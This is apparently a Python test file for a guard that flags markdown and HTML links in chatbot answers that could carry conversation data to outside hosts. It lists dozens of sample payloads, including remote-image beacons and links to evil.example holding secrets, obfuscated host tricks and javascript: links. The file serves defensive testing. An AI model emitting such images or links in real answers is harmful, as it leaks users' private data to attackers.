"""Links and pictures that carry a conversation away are found, and useful links are not."""

from __future__ import annotations

import base64

import pytest

from langchain_prodkit.errors import ConfigurationError
from langchain_prodkit.guard.links import Hosts, links, risky_links

DATA = base64.urlsafe_b64encode(b"the key is hunter22").decode().rstrip("=")
ALLOWED = Hosts(["example.com", "*.docs.example"])

RISKY = {
    "![x](https://evil.example/a.png)": "remote_image",
    "![x](https://evil.example/p?d=SECRET)": "remote_image",
    "![x](<https://evil.example/a b>)": "remote_image",
    "![x](\nhttps://evil.example/x)": "remote_image",
    "![a [b] c](https://evil.example/x)": "remote_image",
    "![x](//evil.example/x.png)": "remote_image",
    "![x](https:\\\\evil.example\\x.png)": "remote_image",
    "![x](https:/evil.example/x.png)": "remote_image",
    "![x](HTTPS://EVIL.EXAMPLE/x.png)": "remote_image",
    "![x](https://example.com@evil.example/x)": "remote_image",
    "![x](https://example.com.evil.example/x)": "remote_image",
    "![x](https://docs.example.evil.example/x)": "remote_image",
    "![x](https://evil\u3002example/x)": "remote_image",
    "![x][1]\n\ntext\n\n[1]: https://evil.example/x": "remote_image",
    "![logo][]\n\n[logo]: https://evil.example/d.png": "remote_image",
    "![logo]\n\n[LOGO]: https://evil.example/d.png": "remote_image",
    "[![i](https://evil.example/x.png)](https://example.com/)": "remote_image",
    "<img src=https://evil.example/x.png>": "remote_image",
    "<img alt='a' src = 'https://evil.example/x.png' />": "remote_image",
    "<img src='https://evil.example/x.png": "remote_image",
    '<img src="&#104;ttps://evil.example/x">': "remote_image",
    '<img src="ht\ntps://evil.example/x">': "remote_image",
    '<img srcset="https://example.com/1 1x, https://evil.example/2 2x">': "remote_image",
    '<div style="background:url(https://evil.example/x)">': "remote_image",
    "<iframe src=//evil.example/x>": "remote_image",
    '<link rel=stylesheet href="https://evil.example/x.css">': "remote_image",
    "<svg><image href='https://evil.example/x'/></svg>": "remote_image",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>": "remote_image",
    "[click](https://evil.example/?q=c2VjcmV0)": "data_link",
    "[x][1]\n\n[1]: https://evil.example/?d=secretdata": "data_link",
    "<https://evil.example/?data=secretdata>": "data_link",
    "see https://evil.example/?d=topsecret for more": "data_link",
    "see www.evil.example/?d=topsecret": "data_link",
    f"[x](https://evil.example/log/{DATA})": "data_link",
    f"[x](https://{DATA}.evil.example/)": "data_link",
    "[x](https://evil.example/the%20key%20is%20abc)": "data_link",
    "[x](https://evil.example/#d=mysecret)": "data_link",
    "[x](https://user:secret@evil.example/)": "data_link",
    "[x](http://127.0.0.1:8080/?k=abcdef)": "data_link",
    "[x](http://[::1]/?k=abcdef)": "data_link",
    "[x](mailto:a@evil.example?body=mysecret)": "data_link",
    '<a href="https://evil.example/?d=topsecret">x</a>': "data_link",
    "[x](javascript:alert(1))": "active_link",
    "[x](JaVaScRiPt:alert(1))": "active_link",
    '<a href="javascript:x()">': "active_link",
    "[x](data:text/html;base64,PHNjcmlwdD4=)": "active_link",
}
FINE = [
    "see https://docs.python.org/3/library/re.html#re.Pattern.fullmatch",
    "[a](https://en.wikipedia.org/wiki/Python_(programming_language)) and more",
    "![x](https://example.com/x.png?d=anything+at+all)",
    "![x](https://img.docs.example/x.png)",
    "https://example.com/search?q=something+long",
    "[x](/local/page?token=abcdef)",
    "![x](img/a.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "https://github.com/o/r/commit/0123456789abcdef0123456789abcdef01234567",
    "https://arxiv.org/abs/2403.14720",
    "https://shop.example/list?page=2&lang=en",
    "https://news.example/2025/11/a-rather-long-headline-about-something-3f2a8c9b1d2e",
    "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster",
    "a < b and c > d, x[0](y), list[int](3), dict[str]",
    "[call us](tel:+431234) or [write](mailto:info@rail.example)",
    "<b>bold</b><br/> and <code>x</code>",
    "```\ncurl -X POST\n```",
]


@pytest.mark.parametrize("text", RISKY)
def test_what_carries_data_away_is_found(text: str) -> None:
    """Each trick, alone and inside an answer; the place is right."""
    (code, _), *_ = risky_links(text, ALLOWED)
    assert code == RISKY[text]
    before = "Here you are.\n\n"
    (_, link), *_ = risky_links(before + text, ALLOWED)
    assert len(before) <= link.start < link.end <= len(before + text)


@pytest.mark.parametrize("text", FINE)
def test_useful_links_pass(text: str) -> None:
    """Plain pages, the app's own hosts, local pictures and things that only look like links."""
    assert risky_links(text, ALLOWED) == []


def test_an_image_by_reference_is_found_when_its_address_comes_later() -> None:
    """In pieces of a stream; without data in it, the address alone would be a harmless link."""
    seen: set[str] = set()
    assert risky_links("![x][pic] and some text", ALLOWED, open_images=seen) == []
    found = risky_links("\n\n[pic]: https://evil.example/x.png", ALLOWED, open_images=seen)
    assert [code for code, _ in found] == ["remote_image"]
    assert risky_links("\n\n[other]: https://evil.example/x.png", ALLOWED, open_images=seen) == []


def test_host_names_are_checked() -> None:
    """A whole address is no host name; a wildcard covers the host and all below it."""
    with pytest.raises(ConfigurationError):
        Hosts(["https://example.com/"])
    assert "a.b.docs.example" in ALLOWED
    assert "docs.example" in ALLOWED
    assert "notdocs.example" not in ALLOWED
    assert "www.example.com" not in ALLOWED


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![a](",
        "<a ",
        "](",
        "https://",
        "[a]:b\n",
        "<img src=x ",
        "[x][y]",
        "(",
        "![x](https://e/x) ",
        "\\",
    ],
)
@pytest.mark.timeout(30)
def test_hostile_text_comes_to_an_end(unit: str) -> None:
    """A pattern that is not linear would take hours for this."""
    assert links(unit * 5_000) is not None
